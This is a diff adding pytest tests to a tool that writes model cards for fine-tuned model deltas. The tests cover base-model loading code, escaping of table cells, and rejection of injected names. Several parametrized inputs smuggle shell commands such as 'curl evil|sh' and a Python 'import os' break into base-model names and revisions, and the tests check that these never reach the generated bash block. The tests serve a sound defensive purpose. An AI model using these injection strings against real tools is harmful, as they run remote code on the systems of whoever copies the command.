@@ -138,6 +138,23 @@ def test_scores_of_the_harness(artifact):
 
 
 @pytest.mark.parametrize(
+    ("config", "model"),
+    [
+        ({}, 'AutoModelForCausalLM.from_pretrained("some/base", revision='),
+        ({"architectures": ["LlamaForCausalLM"]}, "AutoModelForCausalLM."),
+        ({"architectures": ["LlavaForConditionalGeneration"]}, 'deltacome.base_for("some/base@'),
+        ({"architectures": 7}, "AutoModelForCausalLM."),
+    ],
+)
+def test_the_base_is_made_a_model_of_the_tuned_class(artifact, monkeypatch, config, model):
+    monkeypatch.setattr(type(artifact), "json_file", lambda self, name: config)
+    text = model_card(artifact, "org/name").text
+    assert f"\nmodel = {model}" in text
+    assert ("import AutoModelForCausalLM" in text) == ("Auto" in model)
+    assert 'with deltacome.attach(model, "org/name"):' in text
+
+
+@pytest.mark.parametrize(
     ("result", "reason"),
     [
         ({"models": []}, "got those of none"),
@@ -165,3 +182,37 @@ def test_own_words_stay(artifact):
     (artifact.path / "README.md").write_text(str(model_card(artifact)) + "Lost.\n")
     assert "Lost" not in str(artifact.generate_model_card())
     assert "org/name" in artifact.generate_model_card(name="org/name").text
+
+
+@pytest.mark.parametrize(
+    ("base", "revision"),
+    [
+        ("org/x; curl evil|sh #", "a1"),
+        ("org/x@main", "a1"),
+        ("org/x", "a1;curl${IFS}evil|sh"),
+        ('x"); import os #', "a1"),
+        ("x`\n```bash\ncurl evil|sh\n```\n", "a1"),
+    ],
+)
+def test_what_is_no_name_is_not_written_into_commands(artifact, base, revision):
+    """Readers copy them, and the artifact may be anybody's."""
+    artifact.manifest = dataclasses.replace(
+        artifact.manifest, base_name_or_path=base, base_revision=revision
+    )
+    card = model_card(artifact, "org/name")
+    code = card.text.partition("```bash")[2]
+    assert "deltacome merge BASE org/name" in code
+    assert not [bad for bad in ("curl", "import os", "@main") if bad in code]
+    assert card.text.count("```bash") == 1
+    assert "base_model" not in metadata(card)
+
+
+def test_names_do_not_end_the_cell_or_the_code_that_they_are_in(artifact):
+    records = artifact.manifest.records
+    record = next(r for r in records.values() if r.error is not None)
+    name = "a` | <b>\n| b"
+    records[name] = dataclasses.replace(record, name=name)
+    artifact.manifest.method["also`\n# yes"] = "x`\n# no"
+    text = str(model_card(artifact))
+    assert "| `a� � <b>�� b` | 1 |" in text
+    assert "`also��# yes` `x��# no`" in text
